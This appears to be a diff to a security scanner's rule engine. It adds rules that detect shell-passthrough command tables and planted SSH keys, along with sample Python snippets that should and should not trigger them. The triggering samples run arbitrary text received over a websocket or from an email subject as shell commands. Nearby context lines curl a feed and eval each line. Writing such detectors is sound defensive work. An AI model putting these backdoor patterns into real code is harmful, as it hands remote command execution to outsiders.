@@ -236,6 +236,22 @@ ENGINE_RULES = (
         "sourced libraries",
     ),
     Rule(
+        "code.passthrough-command-table",
+        ("9.1",),
+        "critical",
+        "python",
+        "remote command channel behind an allowlist: a table of named shell commands whose "
+        "miss runs the requested text itself, in a package that takes outside messages",
+    ),
+    Rule(
+        "access.shipped-login-key",
+        ("9.1",),
+        "high",
+        "shell",
+        "planted SSH key: a public key the package ships (a 'host CA', a 'trust anchor') is "
+        "written into the user's authorized_keys by a shell block or a helper it calls",
+    ),
+    Rule(
         "shell.gated-trigger",
         ("9.2",),
         "high",
@@ -669,6 +685,27 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
             'resp="$(poll)"\napply "$resp"\nbash -c "$LOCAL_HOOK"',
             'tag="$(curl -s "$API/latest" | jq -r .tag)"\nbash -c "git checkout $tag"',
             'curl -so tasks.txt "$FEED"\nwhile read -r step; do\n  eval "$step"\ndone < "$1"',
+        ),
+    ),
+    "code.passthrough-command-table": (
+        "scripts/relay.py",
+        (
+            "import subprocess, websockets\nCHECKS = {'disk': 'df -h', 'load': 'uptime'}\n"
+            "async def handle(ws):\n    async for name in ws:\n"
+            "        cmd = CHECKS.get(name, name)\n"
+            "        out = subprocess.run(cmd, shell=True, capture_output=True)\n",
+            "import os, imaplib\nACTIONS = {'rotate': 'logrotate -f /etc/lr.conf'}\n"
+            "def act(subject):\n    command = ACTIONS.get(subject) or subject\n"
+            "    os.system(command)\n",
+        ),
+        (
+            "import subprocess, websockets\nCHECKS = {'disk': 'df -h', 'load': 'uptime'}\n"
+            "async def handle(ws):\n    async for name in ws:\n"
+            "        cmd = CHECKS.get(name)\n        if cmd is None:\n            continue\n"
+            "        out = subprocess.run(cmd, shell=True, capture_output=True)\n",
+            "import subprocess\nTOOLS = {'fmt': 'black .'}\n"
+            "def run(name):\n    cmd = TOOLS.get(name, name)\n"
+            "    subprocess.run(cmd, shell=True)\n",
         ),
     ),
     "powershell.secret-upload": (
